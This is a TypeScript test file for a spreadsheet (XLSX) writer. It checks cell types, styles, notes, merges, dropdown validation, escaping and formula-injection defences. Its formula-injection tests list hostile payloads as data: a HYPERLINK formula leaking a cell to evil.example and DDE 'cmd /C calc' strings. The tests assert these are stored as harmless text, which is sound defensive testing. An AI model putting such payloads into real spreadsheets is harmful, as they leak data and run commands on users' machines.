import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { cellRef, MAX_CELL_CHARS, sheetRange, TRUNCATION_MARK, Workbook } from './index';
import { cellNotes } from './notes';

/** exceljs is the real parser here: what it reads back is what a user's spreadsheet gets. */
async function read(bytes: Uint8Array) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  return wb;
}

const parts = (bytes: Uint8Array) =>
  Object.fromEntries(Object.entries(unzipSync(bytes)).map(([name, data]) => [name, strFromU8(data)]));

const created = new Date('2026-04-01T03:04:05.678Z');

describe('Workbook round trip through exceljs', () => {
  it('keeps sheets in order, with their names and visibility, and the core properties', async () => {
    const wb = new Workbook({ creator: 'Pamong', created });
    wb.addSheet('Ringkasan').addRow(['a']);
    wb.addSheet('R&D <2026>').addRow(['b']);
    wb.addSheet('Pilihan', { hidden: true }).addRow(['c']);
    const x = await read(wb.toXlsx());
    expect(x.worksheets.map((s) => [s.name, s.state])).toEqual([
      ['Ringkasan', 'visible'],
      ['R&D <2026>', 'visible'],
      ['Pilihan', 'hidden'],
    ]);
    expect(x.creator).toBe('Pamong');
    expect(x.created.toISOString()).toBe('2026-04-01T03:04:05.000Z');
  });

  it('writes each value with its type: text, number, boolean, date, empty text and no cell', async () => {
    const wb = new Workbook({ created });
    const s = wb.addSheet('Data');
    const midnight = new Date('2026-01-02T00:00:00Z');
    const withTime = new Date('2026-01-02T13:45:30Z');
    s.addRow(['teks', 42, -3.25, 0, true, false, midnight, withTime, '', null, undefined, 'akhir']);
    s.addRow([1e21, 1e-7, Number.NaN, Number.POSITIVE_INFINITY, -0]);
    const x = await read(wb.toXlsx());
    const ws = x.getWorksheet('Data')!;
    const row = ws.getRow(1);
    const v = (i: number) => row.getCell(i);
    expect([1, 2, 3, 4, 5, 6].map((i) => v(i).value)).toEqual(['teks', 42, -3.25, 0, true, false]);
    expect([1, 2, 5].map((i) => v(i).type)).toEqual([
      ExcelJS.ValueType.String,
      ExcelJS.ValueType.Number,
      ExcelJS.ValueType.Boolean,
    ]);
    expect(v(7).value).toEqual(midnight);
    expect(v(7).numFmt).toBe('yyyy-mm-dd');
    expect(Math.abs((v(8).value as Date).getTime() - withTime.getTime())).toBeLessThan(1);
    expect(v(8).numFmt).toBe('yyyy-mm-dd hh:mm:ss');
    expect(v(9).value).toBe('');
    expect(v(9).type).toBe(ExcelJS.ValueType.String);
    expect(v(10).type).toBe(ExcelJS.ValueType.Null);
    expect(v(11).type).toBe(ExcelJS.ValueType.Null);
    expect(v(12).value).toBe('akhir');
    const two = ws.getRow(2);
    expect(two.getCell(1).value).toBe(1e21);
    expect(two.getCell(2).value).toBe(1e-7);
    // A cell cannot hold NaN or Infinity: Excel's own error value says so.
    expect(two.getCell(3).value).toEqual({ error: '#NUM!' });
    expect(two.getCell(4).value).toEqual({ error: '#NUM!' });
    expect(two.getCell(5).value).toBe(0);
  });

  it('applies styles: column under row under cell, fonts, fills, number formats, alignment', async () => {
    const wb = new Workbook({ created });
    const s = wb.addSheet('Gaya', {
      columns: [{ width: 8 }, { width: 30.5, style: { numFmt: '@' } }, {}, { style: { italic: true } }],
    });
    s.addRow(['Kode', 'NIP', 'Nilai', 'Catatan'], { bold: true, fill: 'E8EEF4' });
    s.addRow(
      [
        'U1',
        '198001022005031001',
        { value: 1.23456, style: { numFmt: '0.0000' } },
        { value: 'merah', style: { color: 'FFB00020', size: 14, wrap: true, align: 'center' } },
        { value: 0.123, style: { numFmt: '0.0%' } },
        { value: 78.47, style: { numFmt: '0.00' } },
      ],
      { color: '0000FF' },
    );
    const ws = (await read(wb.toXlsx())).getWorksheet('Gaya')!;
    const head = ws.getRow(1);
    for (const i of [1, 2, 3, 4]) {
      expect(head.getCell(i).font?.bold).toBe(true);
      expect(head.getCell(i).fill).toMatchObject({
        type: 'pattern',
        pattern: 'solid',
        fgColor: { argb: 'FFE8EEF4' },
      });
    }
    // The column's text format reaches the header cell under the row's style, and its italic too.
    expect(head.getCell(2).numFmt).toBe('@');
    expect(head.getCell(4).font).toMatchObject({ bold: true, italic: true });
    const row = ws.getRow(2);
    expect(row.getCell(1).font?.color).toEqual({ argb: 'FF0000FF' });
    expect(row.getCell(2).numFmt).toBe('@');
    expect(row.getCell(2).value).toBe('198001022005031001');
    expect(row.getCell(3).numFmt).toBe('0.0000');
    expect(row.getCell(3).value).toBe(1.23456);
    expect(row.getCell(4).font).toMatchObject({ color: { argb: 'FFB00020' }, size: 14, italic: true });
    expect(row.getCell(4).alignment).toMatchObject({ wrapText: true, horizontal: 'center' });
    expect(row.getCell(5).numFmt).toBe('0.0%');
    expect(row.getCell(6).numFmt).toBe('0.00');
    expect(ws.getColumn(1).width).toBe(8);
    expect(ws.getColumn(2).width).toBe(30.5);
    expect(ws.getColumn(2).numFmt).toBe('@');
    expect(ws.getColumn(4).font?.italic).toBe(true);
  });

  it('keeps a styled empty cell (a format waiting for a value) and writes no unstyled one', async () => {
    const wb = new Workbook({ created });
    wb.addSheet('S').addRow([null, { value: null, style: { numFmt: '0.00' } }, undefined, 'x']);
    const sheetXml = parts(wb.toXlsx())['xl/worksheets/sheet1.xml']!;
    expect(sheetXml).not.toContain('r="A1"');
    expect(sheetXml).toMatch(/<c r="B1" s="\d+"\/>/);
    expect(sheetXml).not.toContain('r="C1"');
  });

  it('freezes header rows, columns, or both', async () => {
    const wb = new Workbook({ created });
    wb.addSheet('Baris', { frozenRows: 1 }).addRow(['a']);
    wb.addSheet('Kolom', { frozenColumns: 2 }).addRow(['a']);
    wb.addSheet('Keduanya', { frozenRows: 3, frozenColumns: 1 }).addRow(['a']);
    wb.addSheet('Bebas').addRow(['a']);
    const x = await read(wb.toXlsx());
    const view = (name: string) => x.getWorksheet(name)!.views[0]!;
    expect(view('Baris')).toMatchObject({ state: 'frozen', xSplit: 0, ySplit: 1, topLeftCell: 'A2' });
    expect(view('Kolom')).toMatchObject({ state: 'frozen', xSplit: 2, ySplit: 0, topLeftCell: 'C1' });
    expect(view('Keduanya')).toMatchObject({ state: 'frozen', xSplit: 1, ySplit: 3, topLeftCell: 'B4' });
    expect(view('Bebas').state).toBe('normal');
  });

  it('writes notes that exceljs (and Excel, through the VML part) show on their cells', async () => {
    const wb = new Workbook({ creator: 'Pamong', created, notes: cellNotes });
    const a = wb.addSheet('A');
    a.addRow(['nip', 'name']);
    a.addNote('A1', 'NIP (wajib): 18 digit <tanpa spasi> & tanpa titik');
    a.addNote(cellRef(1, 2), 'Nama lengkap\nbaris kedua');
    const b = wb.addSheet('B');
    for (let i = 0; i < 5; i++) b.addRow(['x', 'y', `z${i}`]);
    b.addNote('C5', 'catatan kedua lembar');
    const bytes = wb.toXlsx();
    const x = await read(bytes);
    const noteOf = (sheet: string, ref: string) => {
      const note = x.getWorksheet(sheet)!.getCell(ref).note;
      return typeof note === 'string' ? note : note?.texts?.map((t) => t.text).join('');
    };
    expect(noteOf('A', 'A1')).toBe('NIP (wajib): 18 digit <tanpa spasi> & tanpa titik');
    expect(noteOf('A', 'B1')).toBe('Nama lengkap\nbaris kedua');
    expect(noteOf('B', 'C5')).toBe('catatan kedua lembar');
    const files = parts(bytes);
    expect(files['[Content_Types].xml']).toContain('Extension="vml"');
    // Each sheet's shapes in its own id block, as Excel requires.
    expect(files['xl/drawings/vmlDrawing1.vml']).toContain('<o:idmap v:ext="edit" data="1"/>');
    expect(files['xl/drawings/vmlDrawing2.vml']).toContain('<o:idmap v:ext="edit" data="2"/>');
    expect(files['xl/drawings/vmlDrawing2.vml']).toContain('<x:Row>4</x:Row><x:Column>2</x:Column>');
  });

  it('merges ranges, and refuses overlapping ones', async () => {
    const wb = new Workbook({ created });
    const s = wb.addSheet('Judul');
    s.addRow(['Laporan'], { bold: true, size: 14, align: 'center' });
    s.merge('A1:D1');
    s.merge('B3:A2');
    expect(() => s.merge('C1:C2')).toThrow(/overlaps/);
    expect(() => s.merge('E5')).toThrow(/nothing to merge/);
    const ws = (await read(wb.toXlsx())).getWorksheet('Judul')!;
    expect(ws.getCell('D1').isMerged).toBe(true);
    expect(ws.getCell('D1').master.address).toBe('A1');
    expect(ws.getCell('B3').master.address).toBe('A2');
    expect(ws.getCell('E1').isMerged).toBe(false);
  });

  it('writes dropdown lists from literal values and from a range on a hidden sheet', async () => {
    const wb = new Workbook({ created });
    const form = wb.addSheet('Isian');
    form.addRow(['Jenis', 'Perangkat Daerah']);
    form.addListValidation({
      range: 'A2:A500',
      values: ['PNS', 'CPNS', 'PPPK'],
      error: { title: 'Jenis pegawai', message: 'Pilih dari daftar' },
    });
    form.addListValidation({ range: 'B2:B500', source: sheetRange("Daftar O'Brien", 'A2:A3') });
    const list = wb.addSheet("Daftar O'Brien", { hidden: true });
    for (const name of ['Nama', 'Dinas Pendidikan', 'Dinas Kesehatan']) list.addRow([name]);
    const ws = (await read(wb.toXlsx())).getWorksheet('Isian')!;
    expect(ws.getCell('A2').dataValidation).toMatchObject({
      type: 'list',
      allowBlank: true,
      formulae: ['"PNS,CPNS,PPPK"'],
      showErrorMessage: true,
      errorTitle: 'Jenis pegawai',
      error: 'Pilih dari daftar',
    });
    expect(ws.getCell('A500').dataValidation?.type).toBe('list');
    expect(ws.getCell('A501').dataValidation).toBeUndefined();
    expect(ws.getCell('B2').dataValidation).toMatchObject({
      type: 'list',
      formulae: ["'Daftar O''Brien'!$A$2:$A$3"],
    });
  });

  it('refuses list values Excel cannot hold inline', () => {
    const s = new Workbook().addSheet('S');
    expect(() => s.addListValidation({ range: 'A1:A2', values: ['a,b'] })).toThrow(/comma/);
    expect(() => s.addListValidation({ range: 'A1:A2', values: ['x'.repeat(256)] })).toThrow(/255/);
    expect(() => s.addListValidation({ range: 'A1:', values: ['a'] })).toThrow(/not a cell reference/);
  });
});

describe('formula injection', () => {
  const attacks = [
    '=HYPERLINK("http://evil.example/?x="&B2,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '=1',
  ];

  it('stores text that starts like a formula with a leading apostrophe, as text, never as a formula', async () => {
    const wb = new Workbook({ created });
    const s = wb.addSheet('S');
    for (const a of attacks) s.addRow([a]);
    const bytes = wb.toXlsx();
    const ws = (await read(bytes)).getWorksheet('S')!;
    attacks.forEach((a, i) => {
      const cell = ws.getCell(i + 1, 1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      expect(cell.value).toBe(`'${a}`);
    });
    // No formula element anywhere in the sheet.
    expect(parts(bytes)['xl/worksheets/sheet1.xml']).not.toContain('<f>');
  });

  it('leaves numbers, harmless text and sign-and-digits text alone', async () => {
    const wb = new Workbook({ created });
    const s = wb.addSheet('S');
    s.addRow([-5, '-', '+6281234567890', '-12,5', 'a=b', ' =1', 'Nama - Jabatan']);
    const row = (await read(wb.toXlsx())).getWorksheet('S')!.getRow(1);
    expect(row.getCell(1).value).toBe(-5);
    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.Number);
    expect([2, 3, 4, 5, 6, 7].map((i) => row.getCell(i).value)).toEqual([
      '-',
      '+6281234567890',
      '-12,5',
      'a=b',
      ' =1',
      'Nama - Jabatan',
    ]);
  });
});

describe('text that XML or Excel would break on', () => {
  it('escapes markup, keeps spaces, line breaks, CR, emoji and literal _xHHHH_ sequences', async () => {
    const texts = [
      '<b>Dinas</b> & "Kantor" \'A\'',
      ']]> <![CDATA[x]]>',
      '  spasi di depan dan belakang  ',
      'baris satu\nbaris dua\r\nbaris tiga\rempat',
      'Tab\tdi tengah',
      '_x0041_ dan _X0042_ dan _x00_',
      'Puskesmas 🏥 Kedaton – ü ñ 中文',
    ];
    const wb = new Workbook({ created });
    const s = wb.addSheet('S');
    for (const t of texts) s.addRow([t]);
    const ws = (await read(wb.toXlsx())).getWorksheet('S')!;
    texts.forEach((t, i) => {
      expect(ws.getCell(i + 1, 1).value).toBe(t);
    });
  });

  it('removes characters XML 1.0 cannot carry, and the file still opens', async () => {
    const wb = new Workbook({ creator: 'Pam\u0000ong', created, notes: cellNotes });
    const s = wb.addSheet('S');
    s.addRow([
      'a\u0000b\u0001c\u0008d\u000Be\u000Cf\u001Fg\uFFFEh\uFFFFi',
      'lone \uD800 high',
      'lone \uDC00 low',
    ]);
    s.addRow(['pair \uD83C\uDFE5 kept']);
    s.addNote('A1', 'note\u0007 bell');
    const x = await read(wb.toXlsx());
    const ws = x.getWorksheet('S')!;
    expect(ws.getCell('A1').value).toBe('abcdefghi');
    expect(ws.getCell('B1').value).toBe('lone  high');
    expect(ws.getCell('C1').value).toBe('lone  low');
    expect(ws.getCell('A2').value).toBe('pair 🏥 kept');
    expect(x.creator).toBe('Pamong');
  });

  it(`cuts a cell longer than ${MAX_CELL_CHARS} characters, with a mark, without splitting a surrogate pair`, async () => {
    const long = 'a'.repeat(40_000);
    // An emoji straddling the cut: its high surrogate would be the last kept code unit.
    const straddle = `${'b'.repeat(MAX_CELL_CHARS - TRUNCATION_MARK.length - 1)}🏥${'c'.repeat(10)}`;
    const exact = 'd'.repeat(MAX_CELL_CHARS);
    const wb = new Workbook({ created });
    wb.addSheet('S').addRow([long, straddle, exact, `=${'e'.repeat(MAX_CELL_CHARS)}`]);
    const row = (await read(wb.toXlsx())).getWorksheet('S')!.getRow(1);
    const a = row.getCell(1).value as string;
    expect(a).toHaveLength(MAX_CELL_CHARS);
    expect(a.endsWith(TRUNCATION_MARK)).toBe(true);
    const b = row.getCell(2).value as string;
    expect(b.length).toBeLessThanOrEqual(MAX_CELL_CHARS);
    expect(b).toBe(`${'b'.repeat(MAX_CELL_CHARS - TRUNCATION_MARK.length - 1)}${TRUNCATION_MARK}`);
    expect(row.getCell(3).value).toBe(exact);
    // The apostrophe counts towards the limit too.
    const d = row.getCell(4).value as string;
    expect(d).toHaveLength(MAX_CELL_CHARS);
    expect(d.startsWith("'=e")).toBe(true);
  });
});

describe('a large sheet', () => {
  it('writes 10,000 rows of 13 columns quickly, shares repeated text, and reads back intact', async () => {
    const agencies = ['Dinas Pendidikan', 'Dinas Kesehatan', 'Disdukcapil', 'BPKAD', 'Inspektorat'];
    const started = performance.now();
    const wb = new Workbook({ created });
    const s = wb.addSheet('Pegawai', {
      frozenRows: 1,
      columns: Array.from({ length: 13 }, (_, i) => ({
        width: 10 + i,
        ...(i === 1 ? { style: { numFmt: '@' } } : {}),
      })),
    });
    s.addRow(
      Array.from({ length: 13 }, (_, i) => `Kolom ${i + 1}`),
      { bold: true, fill: 'FFE8EEF4' },
    );
    for (let i = 1; i <= 10_000; i++) {
      s.addRow([
        i,
        `19800102200503${String(i).padStart(4, '0')}`,
        `Pegawai Nomor ${i}`,
        i % 3 === 0 ? 'PPPK' : 'PNS',
        agencies[i % agencies.length]!,
        `Unit ${i % 40}`,
        'Analis Kepegawaian',
        'III/a',
        '',
        'S1',
        'TEK-ANALISIS-DATA:3;MAN-KEPEMIMPINAN:2',
        `pegawai${i}@example.go.id`,
        i % 7 === 0 ? '=DDE()' : `08123${String(i).padStart(6, '0')}`,
      ]);
    }
    const bytes = wb.toXlsx();
    const elapsed = performance.now() - started;
    // About 2 s measured with the 2-core machine at a load average of 12 (other test runs). The
    // bound is loose so a busy CI does not fail it; anything worse than linear would.
    expect(elapsed).toBeLessThan(10_000);

    const sst = parts(bytes)['xl/sharedStrings.xml']!;
    const unique = Number(/uniqueCount="(\d+)"/.exec(sst)![1]);
    // Per row 4 distinct texts (NIP, name, email, phone); the rest are shared.
    expect(unique).toBeLessThan(4 * 10_000 + 100);

    const ws = (await read(bytes)).getWorksheet('Pegawai')!;
    expect(ws.rowCount).toBe(10_001);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    const last = ws.getRow(10_001);
    expect(last.getCell(1).value).toBe(10_000);
    expect(last.getCell(2).value).toBe('1980010220050310000');
    expect(last.getCell(3).value).toBe('Pegawai Nomor 10000');
    expect(last.getCell(5).value).toBe('Dinas Pendidikan');
    expect(last.getCell(9).value).toBe('');
    expect(ws.getRow(8).getCell(13).value).toBe("'=DDE()");
    expect(ws.getRow(1).getCell(13).font?.bold).toBe(true);
    // exceljs reading the result is most of this test's time.
  }, 60_000);
});

describe('what Excel refuses is refused here', () => {
  it('checks sheet names', () => {
    const wb = new Workbook();
    wb.addSheet('Pegawai');
    expect(() => wb.addSheet('pegawai')).toThrow(/already a sheet/);
    expect(() => wb.addSheet('')).toThrow(/1-31/);
    expect(() => wb.addSheet('x'.repeat(32))).toThrow(/1-31/);
    for (const bad of ['a/b', 'a\\b', 'a?', 'a*', 'a[1]', 'a:b'])
      expect(() => wb.addSheet(bad)).toThrow(/holds one of/);
    expect(() => wb.addSheet("'kutip")).toThrow(/apostrophe/);
    expect(() => wb.addSheet('a\u0001')).toThrow(/control character/);
    expect(() => wb.addSheet('History')).toThrow(/reserves/);
    expect(() => wb.addSheet('x'.repeat(31))).not.toThrow();
  });

  it('needs a sheet, and a visible one', () => {
    expect(() => new Workbook().toXlsx()).toThrow(/at least one sheet/);
    const wb = new Workbook();
    wb.addSheet('Tersembunyi', { hidden: true });
    expect(() => wb.toXlsx()).toThrow(/visible/);
  });

  it('refuses bad colours, frozen panes and a second note on a cell', () => {
    const wb = new Workbook();
    const s = wb.addSheet('S');
    s.addRow(['x'], { fill: 'merah' });
    expect(() => wb.toXlsx()).toThrow(/colour merah/);
    expect(() => new Workbook().addSheet('S', { frozenRows: -1 })).toThrow(/frozenRows/);
    const t = new Workbook().addSheet('T');
    t.addNote('A1', 'a');
    expect(() => t.addNote('A1', 'b')).toThrow(/already has a note/);
    expect(() => t.addNote('A1:B2', 'c')).toThrow(/one cell/);
  });
});

describe('the package', () => {
  it('is the same bytes for the same content and time', () => {
    const build = () => {
      const wb = new Workbook({ creator: 'Pamong', created });
      wb.addSheet('S', { frozenRows: 1, columns: [{ width: 10 }] }).addRow(['a', 1, true], { bold: true });
      return wb.toXlsx();
    };
    expect(Buffer.from(build()).equals(Buffer.from(build()))).toBe(true);
  });

  it('declares every part it holds, starting with [Content_Types].xml', () => {
    const wb = new Workbook({ created, notes: cellNotes });
    const s = wb.addSheet('S');
    s.addRow(['a']);
    s.addNote('A1', 'n');
    const bytes = wb.toXlsx();
    const names = Object.keys(unzipSync(bytes));
    expect(names[0]).toBe('[Content_Types].xml');
    const types = parts(bytes)['[Content_Types].xml']!;
    for (const name of names.filter((n) => n.endsWith('.xml') && n !== '[Content_Types].xml'))
      expect(types).toContain(`PartName="/${name}"`);
    expect(names.sort()).toEqual(
      [
        '[Content_Types].xml',
        '_rels/.rels',
        'docProps/core.xml',
        'xl/_rels/workbook.xml.rels',
        'xl/comments1.xml',
        'xl/drawings/vmlDrawing1.vml',
        'xl/sharedStrings.xml',
        'xl/styles.xml',
        'xl/workbook.xml',
        'xl/worksheets/_rels/sheet1.xml.rels',
        'xl/worksheets/sheet1.xml',
      ].sort(),
    );
  });
});

describe('cell notes', () => {
  it('need the notes writer: a workbook without it refuses to write notes instead of dropping them', () => {
    const wb = new Workbook({ created: new Date('2026-01-02T03:04:05Z') });
    wb.addSheet('S').addNote('A1', 'petunjuk');
    expect(() => wb.toXlsx()).toThrow('a workbook with notes needs `notes: cellNotes` in its options');
  });
});
